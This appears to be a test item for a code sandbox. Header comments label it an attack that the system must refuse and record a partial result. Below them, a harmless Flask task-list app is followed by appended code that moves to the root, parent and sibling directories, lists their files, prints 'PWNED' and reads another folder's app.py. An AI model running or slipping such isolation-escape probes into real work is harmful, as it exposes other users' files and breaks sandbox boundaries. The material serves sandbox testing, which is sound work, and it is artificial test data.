# attack: goes to another folder first and opens a short name there
# must: refuse
# through: partial
# check: page_loads passed
import uuid
from flask import Flask, g, make_response, render_template_string, request
from flask.views import MethodView
app = Flask(__name__)
TASKS = __TASKS__
PAGE = """<!doctype html><title>My tasks</title>
<ul>{% for task in tasks %}<li>{{ task }}</li>{% endfor %}</ul>
<a href="{{ url_for('home') }}">Home</a>"""
@app.before_request
def tag():
    g.request_id = uuid.uuid4().hex
class HomeView(MethodView):
    def get(self):
        return make_response(render_template_string(PAGE, tasks=TASKS))
app.add_url_rule("/", view_func=HomeView.as_view("home"))
@app.after_request
def stamp(response):
    response.headers["X-Request-ID"] = "placeholder"
    return response

import os
here = os.getcwd()
for folder in (os.path.dirname("__SIBLING__"), "/", "..", "../..", "../../.."):
    try:
        os.chdir(folder)
        print("went to", folder)
        names = os.listdir(".")
        print("PWNED" if {"app.py", "proc"} & {*names} and os.getcwd() != here else "nothing in", names)
    except OSError as e:
        print("blocked", e)
try:
    os.chdir(os.path.dirname("__SIBLING__"))
    print("PWNED", open("app.py").read())
except OSError as e:
    print("blocked", e)
os.chdir(here)
